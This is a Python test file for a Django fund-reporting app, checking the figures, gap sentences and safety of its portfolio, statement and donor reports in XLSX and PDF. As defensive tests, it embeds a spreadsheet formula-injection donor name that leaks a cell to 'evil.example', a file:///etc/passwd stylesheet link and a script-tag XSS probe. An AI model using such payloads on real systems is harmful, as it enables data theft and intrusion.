"""The downloadable fund reports: portfolio, financial statement and donor report, as XLSX
and PDF, with the right figures, the gaps in words, and nothing fetched or run as a formula."""

from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from django.utils import translation
from openpyxl import load_workbook

from migration_hub.core.models import Country, Region
from migration_hub.funds import charts, reports, services
from migration_hub.funds.choices import DecisionOutcome, TargetDimension
from migration_hub.funds.models import Target

DAY = date(2024, 3, 1)
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
GAP = "below target: 10.7% of 20.0%, USD 104,000.00 short"


@pytest.fixture
def busy_fund(
    fund, fund_manager, reviewer, deposit, approved_programme, concept_note, un_organizations
):
    """Two approved programmes (USD 1,000,000 in TA4 for South Africa, USD 120,000 in TA1 for
    Mexico), a second donor's USD 234,567.89, a tranche of USD 250,000.50 to IOM, a selected
    note of USD 500,000 in the pipeline, and targets: TA1 20% (missed), TA4 50% (met),
    Africa 90% (missed)."""
    south_africa = approved_programme()
    approved_programme({"IOM": "120000.00"}, area="TA1", alpha3="MEX", title="Data in Mexico")
    deposit("234567.89", alpha3="FRA")
    services.transfer_tranche(
        actor=fund_manager,
        programme=south_africa,
        organization=un_organizations["IOM"],
        amount="250000.50",
        transferred_on=DAY,
    )
    waiting = concept_note("500000.00", area="TA2", alpha3="MAR", title="Protection in Morocco")
    services.assess_programme(
        actor=reviewer, programme=waiting, scores={c["code"]: 3 for c in fund.rubric}
    )
    services.decide_programme(
        actor=fund_manager,
        programme=waiting,
        outcome=DecisionOutcome.SELECTED,
        reasons="Good, but no money yet.",
        decided_on=DAY,
    )
    areas = {area.code: area for area in fund.thematic_areas.all()}
    Target.objects.create(
        fund=fund,
        dimension=TargetDimension.THEMATIC_AREA,
        thematic_area=areas["TA1"],
        minimum_share=Decimal("20.00"),
    )
    Target.objects.create(
        fund=fund,
        dimension=TargetDimension.THEMATIC_AREA,
        thematic_area=areas["TA4"],
        minimum_share=Decimal("50.00"),
    )
    Target.objects.create(
        fund=fund,
        dimension=TargetDimension.REGION,
        region=Region.objects.get(m49_code="002"),
        minimum_share=Decimal("90.00"),
    )
    return fund


def workbook(content: bytes):
    return load_workbook(io.BytesIO(content))


def rows(sheet) -> list[list]:
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def row_for(sheet, label: str) -> list:
    return next(row for row in rows(sheet) if row and row[0] == label)


def exact(value) -> Decimal:
    """A number read back from the XLSX, as the Decimal it was written from."""
    return Decimal(str(value)).quantize(Decimal("0.01"))


def page_text(document) -> str:
    """The text WeasyPrint laid out on the pages of `document` (no PDF text extractor is
    installed), with line breaks undone."""
    parts: list[str] = []

    def walk(box):
        text = getattr(box, "text", None)
        if isinstance(text, str):
            parts.append(text)
        for child in getattr(box, "children", ()):
            walk(child)

    for page in document.pages:
        walk(page._page_box)
    return re.sub(r"\s+", " ", " ".join(parts))


@pytest.fixture
def rendered(monkeypatch):
    """rendered(document, fund=..., donor=...) -> (PDF bytes, text laid out on its pages),
    from one call of `reports.render`: the laid-out document it wrote is kept."""
    documents = []
    lay_out = reports.pdf_document

    def keep(report):
        documents.append(lay_out(report))
        return documents[-1]

    monkeypatch.setattr(reports, "pdf_document", keep)

    def run(document: str, **kwargs) -> tuple[bytes, str]:
        content, content_type, name = reports.render(document, "pdf", **kwargs)
        assert content_type == "application/pdf"
        assert re.fullmatch(rf"[A-Z0-9.-]+-{document}-[a-z0-9-]*\d{{4}}-\d{{2}}-\d{{2}}\.pdf", name)
        assert content.startswith(b"%PDF-")
        return content, page_text(documents[-1])

    return run


# --- Portfolio --------------------------------------------------------------------------------


def test_portfolio_xlsx_holds_the_figures_and_the_gaps(busy_fund):
    content, content_type, name = reports.render("portfolio", "xlsx", fund=busy_fund)

    assert content_type == XLSX
    assert re.fullmatch(r"MIG00-portfolio-\d{4}-\d{2}-\d{2}\.xlsx", name)
    book = workbook(content)
    assert book.sheetnames == [
        "About this report",
        "Summary",
        "Targets and gaps",
        "By thematic area",
        "By region",
        "By GCM objective",
        "By marker",
        "Pipeline selected but unfunded",
    ]
    about = book["About this report"]
    assert row_for(about, "Fund")[1] == "Migration Multi-Partner Trust Fund"
    assert row_for(about, "Currency")[1] == "USD"

    summary = book["Summary"]
    assert summary.freeze_panes == "A2"
    assert summary["A1"].font.bold
    assert summary.column_dimensions["A"].width > 10
    deposited = row_for(summary, "Deposited by donors")
    assert exact(deposited[1]) == Decimal("1354567.89")
    assert deposited[2] == "1.9% of the funding target"
    assert exact(row_for(summary, "Allocated to programmes, net of returns")[1]) == Decimal(
        "1120000.00"
    )
    assert exact(row_for(summary, "Cash held")[1]) == Decimal("1104567.39")
    assert exact(row_for(summary, "of which committed to approved programmes")[1]) == Decimal(
        "869999.50"
    )
    assert exact(row_for(summary, "available for allocation")[1]) == Decimal("234567.89")
    cell = summary.cell(row=3, column=2)
    assert cell.data_type == "n"
    assert cell.number_format == "#,##0.00"
    assert any(GAP in str(row[0]) for row in rows(summary))

    targets = book["Targets and gaps"]
    assert targets.freeze_panes == "A2"
    ta1 = row_for(targets, "Thematic area: TA1 Data-driven discourse")
    assert ta1[1:5] == [pytest.approx(0.2), pytest.approx(0.107), 120000, 104000]
    assert ta1[5] == GAP
    assert targets.cell(row=2, column=2).number_format == "0.0#%"
    ta4 = row_for(targets, "Thematic area: TA4 Regular migration and development")
    assert ta4[5] == "target met: 89.3% of 50.0%"
    africa = row_for(targets, "Region: Africa")
    assert africa[5] == "below target: 89.3% of 90.0%, USD 8,000.00 short"

    areas = book["By thematic area"]
    assert row_for(areas, "TA1 Data-driven discourse")[4] == GAP
    assert row_for(areas, "TA2 Protecting migrants")[4] == "no target"
    assert exact(row_for(areas, "Total")[1]) == Decimal("1120000.00")

    pipeline = book["Pipeline selected but unfunded"]
    note = next(row for row in rows(pipeline) if row[1] == "Protection in Morocco")
    assert note[2] == "Selected"
    assert exact(note[5]) == Decimal("500000.00")
    assert note[7] == "no"
    assert any(
        row[0] == "USD 265,432.11 more is needed to fund the whole pipeline."
        for row in rows(pipeline)
    )


def test_portfolio_pdf_has_the_title_line_contents_totals_and_gap_sentence(busy_fund, rendered):
    _content, text = rendered("portfolio", fund=busy_fund)

    assert "Migration Multi-Partner Trust Fund: figures as of" in text
    assert "amounts in USD" in text
    assert "Contents" in text
    assert "1,354,567.89" in text
    assert "1,120,000.00" in text
    assert GAP in text
    assert "USD 265,432.11 more is needed to fund the whole pipeline." in text
    assert "Protection in Morocco" in text


def test_charts_show_the_target_share_and_say_the_gap_in_words(busy_fund):
    from migration_hub.funds import selectors

    folio = selectors.portfolio(busy_fund)
    spec = charts.thematic_area_chart(folio)
    values = {row["label"]: row for row in spec["data"]["values"]}
    assert values["TA1 Data-driven discourse"]["target"] == 20.0
    assert values["TA1 Data-driven discourse"]["caption"] == "10.7% (target 20.0%, below target)"
    assert "TA1 Data-driven discourse: 10.7% (target 20.0%, below target)" in spec["description"]
    svg = charts.to_svg(spec)
    assert svg.startswith("<svg") and "below target" in svg
    regions = charts.region_chart(folio)
    assert {row["label"] for row in regions["data"]["values"]} >= {"Africa", "Americas"}


# --- Statement --------------------------------------------------------------------------------


def test_statement_xlsx_has_sources_uses_and_balance(busy_fund):
    content, _type, name = reports.render("statement", "xlsx", fund=busy_fund)

    assert name.startswith("MIG00-statement-")
    book = workbook(content)
    assert book.sheetnames == [
        "About this report",
        "Sources deposits by donor",
        "Uses transfers by participating",
        "Balance",
    ]
    sources = book["Sources deposits by donor"]
    assert rows(sources)[0] == ["Donor", "Deposited (USD)"]
    assert exact(row_for(sources, "Germany")[1]) == Decimal("1120000.00")
    assert exact(row_for(sources, "France")[1]) == Decimal("234567.89")
    assert exact(row_for(sources, "Total sources")[1]) == Decimal("1354567.89")
    uses = book["Uses transfers by participating"]
    assert [exact(v) for v in row_for(uses, "International Organization for Migration")[1:]] == [
        Decimal("250000.50"),
        Decimal("0.00"),
        Decimal("250000.50"),
    ]
    balance = book["Balance"]
    assert exact(row_for(balance, "Cash balance")[1]) == Decimal("1104567.39")
    assert exact(row_for(balance, "of which committed to approved programmes")[1]) == Decimal(
        "869999.50"
    )
    assert exact(row_for(balance, "available for allocation")[1]) == Decimal("234567.89")
    assert row_for(balance, "Check: sources - uses - balance")[1] == 0
    # Money is written as the Decimal's digits, not through a float's rounding.
    xml = zipfile.ZipFile(io.BytesIO(content)).read("xl/worksheets/sheet2.xml").decode()
    assert "<v>1354567.89</v>" in xml


def test_statement_pdf_checks_that_sources_less_uses_is_the_balance(busy_fund, rendered):
    _content, text = rendered("statement", fund=busy_fund)

    assert "Contents" not in text  # a short document
    assert "Sources: deposits by donor" in text
    assert "Total sources 1,354,567.89" in text
    assert "Total uses 250,000.50 0.00 250,000.50" in text
    assert (
        "Check: sources - uses = balance: USD 1,354,567.89 - USD 250,000.50 = USD 1,104,567.39."
        in text
    )
    assert "Check failed" not in text


def test_statement_flags_a_ledger_that_does_not_add_up(busy_fund):
    from migration_hub.funds import selectors

    statement = selectors.statement(busy_fund)
    statement.balances.cash -= Decimal("0.01")  # as if the ledger were written around services
    sections = reports._statement_sections(statement)
    balance = sections[-1]
    assert balance.checks[0].startswith("Check failed: sources - uses = USD 1,104,567.39, but")
    assert ["Check: sources - uses - balance", Decimal("0.01")] == balance.rows[-1].cells


# --- Donor reports ----------------------------------------------------------------------------


def test_donor_report_xlsx_and_pdf(busy_fund, rendered):
    germany = Country.objects.get(alpha3="DEU").donor

    content, _type, name = reports.render("donor", "xlsx", fund=busy_fund, donor=germany)
    assert name.startswith("MIG00-donor-germany-")
    book = workbook(content)
    contribution = book["Contribution to the fund"]
    first = row_for(contribution, "Deposited by Germany")
    assert exact(first[1]) == Decimal("1120000.00")
    assert first[2] == "82.7% of the fund's deposits"
    deposits = book["Deposits"]
    assert [exact(row[5]) for row in rows(deposits)[1:]] == [
        Decimal("1000000.00"),
        Decimal("120000.00"),
    ]
    assert deposits.cell(row=2, column=1).is_date
    assert exact(row_for(book["Deposits by earmark"], "Unearmarked")[1]) == Decimal("1120000.00")
    assert "Targets and gaps" in book.sheetnames

    _content, text = rendered("donor", fund=busy_fund, donor=germany)
    assert "Donor report Germany" in text
    assert "82.7% of the fund's deposits" in text
    assert GAP in text


def test_a_private_donors_formula_is_neutralised_in_the_xlsx(fund, fund_manager):
    name = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    donor = services.donor_for(name=name, actor=fund_manager)
    contribution = services.record_contribution(
        actor=fund_manager, fund=fund, donor=donor, currency="USD", amount="10.00", pledged_on=DAY
    )
    services.sign_contribution(actor=fund_manager, contribution=contribution, signed_on=DAY)
    services.record_deposit(actor=fund_manager, contribution=contribution, day=DAY, amount="10.00")

    for document in ("statement", "donor"):
        content, _type, filename = reports.render(document, "xlsx", fund=fund, donor=donor)
        assert re.fullmatch(r"[A-Za-z0-9.-]+", filename)
        book = workbook(content)
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f"
                    assert not str(cell.value or "").startswith("=")
        sources = book["Sources deposits by donor"] if document == "statement" else None
        if sources is not None:
            assert rows(sources)[1][0] == "'" + name
    html = reports.to_html(reports.build("donor", fund=fund, donor=donor))
    assert "&quot;http://evil.example/?leak=&quot;&amp;A1" in html


# --- Edge cases -------------------------------------------------------------------------------


def test_a_fund_with_no_money_renders_every_document(countries, organization, rendered):
    empty = services.create_fund(
        actor=None, organization=organization, code="EMPTY", name="Empty Fund", funding_target=""
    )
    donor = services.donor_for(name="Nobody Yet")
    texts = {}
    for document in reports.DOCUMENTS:
        book = workbook(reports.render(document, "xlsx", fund=empty, donor=donor)[0])
        assert row_for(book["About this report"], "Fund")[1] == "Empty Fund"
        _content, texts[document] = rendered(document, fund=empty, donor=donor)
    book = workbook(reports.render("portfolio", "xlsx", fund=empty)[0])
    assert exact(row_for(book["Summary"], "Cash held")[1]) == Decimal("0.00")
    assert "No money has been allocated yet." in texts["portfolio"]
    assert "No selected programme is waiting for money." in texts["portfolio"]
    assert "The fund has no targets." in texts["portfolio"]
    assert "Check: sources - uses = balance: USD 0.00 - USD 0.00 = USD 0.00." in texts["statement"]
    assert "No contribution recorded." in texts["donor"]


def test_a_target_with_nothing_allocated_is_below_target_in_words(fund):
    Target.objects.create(
        fund=fund,
        dimension=TargetDimension.THEMATIC_AREA,
        thematic_area=fund.thematic_areas.get(code="TA1"),
        minimum_share=Decimal("12.25"),
    )
    report = reports.build("portfolio", fund=fund)
    targets = next(section for section in report.sections if section.key == "targets")
    assert targets.rows[0].cells[-1] == "below target: 0.0% of 12.25%, nothing allocated yet"
    assert targets.rows[0].style == "flag"


def test_a_target_missed_by_less_than_the_rounding_is_still_below_target(fund, approved_programme):
    approved_programme({"IOM": "1996.00"}, area="TA1")
    approved_programme({"IOM": "8004.00"})
    Target.objects.create(
        fund=fund,
        dimension=TargetDimension.THEMATIC_AREA,
        thematic_area=fund.thematic_areas.get(code="TA1"),
        minimum_share=Decimal("20.00"),
    )
    report = reports.build("portfolio", fund=fund)
    targets = next(section for section in report.sections if section.key == "targets")
    # The selector rounds the share to 20.0% and calls the target met; USD 4.00 is missing.
    assert targets.rows[0].cells[-1] == "below target: 19.96% of 20.0%, USD 4.00 short"
    summary = report.sections[1]
    assert summary.flags == [
        "Thematic area: TA1 Data-driven discourse \u2013 below target: 19.96% of 20.0%, "
        "USD 4.00 short"
    ]


@pytest.mark.parametrize(
    ("document", "fmt"), [("portfolio", "docx"), ("portfolio", "PDF"), ("ledger", "pdf")]
)
def test_unknown_document_or_format_raises_value_error(fund, document, fmt):
    with pytest.raises(ValueError, match="unknown"):
        reports.render(document, fmt, fund=fund)


def test_a_donor_report_needs_a_donor(fund):
    with pytest.raises(ValueError, match="donor"):
        reports.render("donor", "pdf", fund=fund)


def test_weasyprint_fetches_nothing_but_data_uris(busy_fund, monkeypatch):
    fetcher = reports.url_fetcher()
    for url in ("http://example.org/x.css", "https://example.org/x.png", "file:///etc/passwd"):
        with pytest.raises(ValueError):
            fetcher.fetch(url)
    assert fetcher.fetch("data:text/plain,hi").read() == b"hi"

    asked: list[str] = []

    class Spy(type(fetcher)):
        def fetch(self, url, headers=None):
            asked.append(url)
            return super().fetch(url, headers)

    # A remote image and stylesheet slipped into the HTML are asked for, and refused.
    monkeypatch.setattr(reports, "url_fetcher", lambda: Spy(allowed_protocols=["data"]))
    to_html = reports.to_html
    monkeypatch.setattr(
        reports,
        "to_html",
        lambda report: (
            to_html(report)
            .replace("</head>", '<link rel="stylesheet" href="file:///etc/passwd"></head>')
            .replace("</body>", '<img src="http://example.org/logo.png" alt=""></body>')
        ),
    )
    content, _type, _name = reports.render("portfolio", "pdf", fund=busy_fund)
    assert content.startswith(b"%PDF")
    assert sorted(asked) == ["file:///etc/passwd", "http://example.org/logo.png"]


def test_reports_render_in_the_active_language(busy_fund):
    with translation.override("fr"):
        html = reports.to_html(reports.build("statement", fund=busy_fund))
        book = workbook(reports.render("statement", "xlsx", fund=busy_fund)[0])
    assert '<html lang="fr" dir="ltr">' in html
    assert re.search(r"1\s354\s567,89", html)  # French separators
    assert exact(book.worksheets[1].cell(row=2, column=2).value) > 0
    with translation.override("ar"):
        html = reports.to_html(reports.build("statement", fund=busy_fund))
    assert 'dir="rtl"' in html


def test_user_text_is_escaped_in_the_html_and_the_charts(fund, approved_programme):
    area = fund.thematic_areas.get(code="TA4")
    area.name = "<script>alert(1)</script> & co"
    area.save()
    approved_programme()
    html = reports.to_html(reports.build("portfolio", fund=fund))
    assert "<script>" not in html
    assert "&lt;script&gt;" in html


def test_a_server_without_pango_gets_a_clear_503_and_the_xlsx_still_works(
    client, fund, viewer, monkeypatch
):
    """WeasyPrint loads Pango (a system library) when imported; without it the PDF link says
    what to install instead of failing with a server error."""
    import builtins

    real_import = builtins.__import__

    def no_pango(name, *args, **kwargs):
        if name.startswith("weasyprint"):
            raise OSError("cannot load library 'libpango-1.0-0'")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_pango)
    client.force_login(viewer)
    pdf = client.get(f"/funds/{fund.code}/portfolio.pdf")
    assert pdf.status_code == 503
    assert "apt-get install libpango-1.0-0" in pdf.content.decode()
    assert client.get(f"/funds/{fund.code}/portfolio.xlsx").status_code == 200
